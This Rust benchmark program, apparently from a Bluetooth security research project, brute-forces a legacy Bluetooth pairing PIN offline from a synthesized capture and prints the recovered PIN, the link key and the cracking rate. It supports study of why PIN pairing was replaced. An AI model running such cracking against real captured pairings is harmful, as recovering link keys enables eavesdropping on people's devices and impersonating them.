//! Offline numeric-PIN brute force against a sniffed legacy pairing — the
//! paper's cited motivation for SSP (refs 14 and 15).
//!
//! ```text
//! cargo run --release -p blap-bench --bin pincrack -- [pin] [jobs] \
//!     [--digits N] [--trials N] \
//!     [--metrics out/metrics.json] [--jobs N]
//! ```
//!
//! `--digits` bounds the search space (default 6: the full 1,111,110
//! candidate numeric space); `--trials` repeats the sweep for steadier
//! rate numbers. `jobs` (or the `BLAP_JOBS` environment variable)
//! sets the worker count; the recovered PIN, attempt count, and metrics
//! artifact are byte-identical at any value and any trial count.
//!
//! The metrics artifact reports the sweep duration twice: virtual time
//! (`pincrack.sweep_virtual_us`, one virtual microsecond per candidate —
//! deterministic) always, wall time and the derived
//! `pincrack.candidates_per_second` only under `BLAP_METRICS_WALL=1`,
//! which is the same opt-in the rest of the artifacts use to keep byte
//! comparability across runs and machines.

use std::time::{Duration, Instant};

use blap::legacy_pin::{crack_numeric_pin_with, CrackResult, LegacyPairingCapture, MAX_PIN_DIGITS};
use blap_bench::cli::{self, Args};
use blap_obs::{MetaValue, Metrics};

fn main() {
    let args = Args::parse_with(&["--digits", "--trials"], &[]);
    let pin = args
        .positional
        .first()
        .cloned()
        .unwrap_or_else(|| "4821".to_owned());
    let jobs = args.resolve_jobs(1);
    let digits: u32 = args.extra_or("--digits", 6).unwrap_or_else(die);
    let trials: u32 = args.extra_or("--trials", 1).unwrap_or_else(die);
    if !(1..=MAX_PIN_DIGITS).contains(&digits) {
        die::<u32>(format!(
            "--digits must be between 1 and {MAX_PIN_DIGITS} (E22 PINs are 1-16 digits)"
        ));
    }
    if trials == 0 {
        die::<u32>("--trials must be at least 1".to_owned());
    }
    args.init_profiling();
    println!("== Legacy PIN cracking (E22/E21/E1 offline search) ==\n");
    println!(
        "synthesizing a sniffed legacy pairing with PIN {pin:?} \
         (search space: up to {digits} digits, engine: batch)...\n"
    );

    let capture = LegacyPairingCapture::synthesize(
        "11:11:11:11:11:11".parse().expect("valid address"),
        "00:1b:7d:da:71:0a".parse().expect("valid address"),
        pin.as_bytes(),
        [0xA1; 16],
        [0xB2; 16],
        [0xC3; 16],
        [0xD4; 16],
    );

    let started = Instant::now();
    let mut total_wall = Duration::ZERO;
    let mut outcome: Option<Option<CrackResult>> = None;
    for trial in 0..trials {
        let sweep = Instant::now();
        let result = crack_numeric_pin_with(&capture, digits, jobs);
        let elapsed = sweep.elapsed();
        total_wall += elapsed;
        if let Some(result) = &result {
            println!(
                "trial {}/{trials}: {} candidates in {:.2?} ({:.0} candidates/s)",
                trial + 1,
                result.attempts,
                elapsed,
                result.attempts as f64 / elapsed.as_secs_f64().max(1e-9)
            );
        }
        match &outcome {
            None => outcome = Some(result),
            Some(first) => assert_eq!(first, &result, "trial {} disagrees with trial 1", trial + 1),
        }
    }

    let mut metrics = Metrics::new();
    metrics.add("pincrack.digits", digits as u64);
    metrics.add("pincrack.trials", trials as u64);
    let outcome = outcome.expect("at least one trial ran");
    match &outcome {
        Some(result) => {
            println!(
                "\ncracked: PIN {:?} after {} candidates",
                String::from_utf8_lossy(&result.pin),
                result.attempts,
            );
            println!("recovered link key: {}", result.link_key);
            let swept = result.attempts as u64 * trials as u64;
            println!(
                "aggregate rate: {:.0} candidates/s over {trials} trial(s)",
                swept as f64 / total_wall.as_secs_f64().max(1e-9)
            );
            metrics.add("pincrack.candidates", result.attempts as u64);
            metrics.inc("pincrack.cracked");
            metrics.gauge_max("pincrack.pin_len", result.pin.len() as u64);
            // Virtual sweep duration: one virtual µs per candidate, summed
            // over trials — deterministic at any parallelism or host.
            metrics.add("pincrack.sweep_virtual_us", swept);
            if wall_metrics_enabled() {
                metrics.add("pincrack.sweep_wall_ms", total_wall.as_millis() as u64);
                metrics.add(
                    "pincrack.candidates_per_second",
                    (swept as f64 / total_wall.as_secs_f64().max(1e-9)) as u64,
                );
            }
        }
        None => {
            println!("not found in the numeric search space (non-numeric PIN?)");
            metrics.inc("pincrack.exhausted");
        }
    }
    if let Some(path) = &args.metrics_path {
        cli::write_metrics(
            path,
            &[
                ("experiment", MetaValue::Str("pincrack".to_owned())),
                ("engine", MetaValue::Str("batch".to_owned())),
                ("digits", MetaValue::Int(digits as u64)),
            ],
            &metrics,
            started.elapsed(),
        );
    }
    println!(
        "\nEach candidate costs five SAFER+ key schedules and five block\n\
         encryptions (one E22 + two E21 + one E1) — even the full 6-digit\n\
         PIN space falls in about a second on one core, which is exactly\n\
         why SSP replaced PIN pairing."
    );
    args.write_profile();
}

fn wall_metrics_enabled() -> bool {
    std::env::var("BLAP_METRICS_WALL").is_ok_and(|v| v == "1")
}

fn die<T>(message: String) -> T {
    eprintln!("error: {message}");
    std::process::exit(2);
}
